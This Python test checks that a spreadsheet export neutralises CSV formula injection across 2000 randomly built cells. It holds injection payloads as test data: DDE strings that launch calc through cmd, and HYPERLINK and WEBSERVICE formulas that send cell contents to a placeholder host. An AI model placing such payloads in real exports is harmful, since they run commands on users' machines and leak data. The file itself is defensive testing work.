"""What leaves as a table is run by no spreadsheet, whatever was typed."""

import csv
import io

from playbook import sheets
from tests.security.scale import chance

STARTS = (
    "=",
    "+",
    "-",
    "@",
    "＝",
    "＋",
    "－",
    "＠",
    "\t=",
    "\r=",
    "\n+",
    " =",
    "\u3000＝",
    "\ufeff=",
    "\u200b@",
    "'=",
    "''",
)
FORMULAS = (
    *("cmd|' /C calc'!A0", 'HYPERLINK("http://x.example?"&A1,"see")', "SUM(1+1)*cmd", "IMPORTXML(A1)"),
    *('WEBSERVICE("http://x.example")', 'DDE("cmd";"/c calc")', "", ";=2", ",=3", '"=4', "x\r\n=5", "0|'"),
)
ACTS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "\t", "\r", "\n")
UNSEEN = " \u00a0\u3000\u200b\ufeff\t\r\n\v\f"


def test_two_thousand_cells_read_back_as_typed_and_none_of_them_is_a_formula():
    dice = chance("cells")
    cells = [dice.choice(STARTS) + dice.choice(FORMULAS) for _ in range(2000)]
    written = sheets.write(("a", "b"), [cells[at : at + 2] for at in range(0, 2000, 2)])
    shown = [cell for row in csv.reader(io.StringIO(written, newline="")) for cell in row][2:]
    assert len(shown) == 2000
    assert not [cell for cell in shown if cell.startswith(ACTS) or cell.lstrip(UNSEEN).startswith(ACTS)]
    assert [sheets.unguarded(cell) for cell in shown] == cells
